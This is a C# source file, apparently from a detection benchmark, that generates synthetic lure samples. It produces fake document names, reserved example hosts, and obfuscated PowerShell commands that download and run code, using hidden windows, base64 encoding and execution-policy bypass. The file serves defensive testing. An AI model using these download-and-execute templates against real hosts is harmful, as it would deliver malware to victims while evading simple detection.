using Platform.Benchmarks.Runner;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Hosts, names and commands of samples, made up by the seed.</summary>
internal static class Lures
{
    private static readonly string[] Suffixes = ["example", "example.net", "example.org", "example.com"];
    private static readonly string[] Documents = ["invoice", "order", "請求書", "offer", "scan", "contract", "payroll", "quotation", "statement", "見積書", "delivery-note", "resume"];

    /// <summary>A host that nobody owns, by name or by address (RFC 2606, RFC 5737).</summary>
    public static string Host(this Random random) => random.Next(3) == 0
        ? $"{random.Pick(["192.0.2", "198.51.100", "203.0.113"])}.{random.Next(1, 255)}"
        : $"{random.Word()}-{random.Word(3, 6)}.{random.Pick(Suffixes)}";

    /// <summary>Name of a document without extension.</summary>
    public static string DocumentName(this Random random) => $"{random.Pick(Documents)}{random.Pick(["_", "-", " "])}{random.Next(100, 99_999)}";

    public static string Address(this Random random, string extension = "") => $"{random.Pick(["http", "https"])}://{random.Host()}/{random.Word()}/{random.Word()}{extension}";

    /// <summary>Arguments by which PowerShell fetches something and runs it, written in one of many ways.</summary>
    public static string Downloader(this Random random)
    {
        var address = random.Address(random.Pick([".txt", ".ps1", ".jpg", ""]));
        var file = $"$env:TEMP\\{random.Word()}.{random.Pick(["exe", "dll", "js", "vbs"])}";
        var code = random.Next(4) switch
        {
            0 => $"iex (New-Object Net.WebClient).DownloadString('{address}')",
            1 => $"iwr {address} -OutFile {file}; Start-Process {file}",
            2 => $"$c='{string.Join("'+'", address.Chunk(random.Next(4, 9)).Select(part => new string(part)))}';IEX((iwr $c -useb).Content)",
            _ => $"(New-Object System.Net.WebClient).DownloadFile('{address}','{file}');& {file}",
        };
        return random.Next(3) switch
        {
            0 => $"-nop -w hidden -enc {Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(code))}",
            1 => $"-NoProfile -WindowStyle Hidden -Command \"{code}\"",
            _ => $"-ep bypass -c {code}",
        };
    }
}
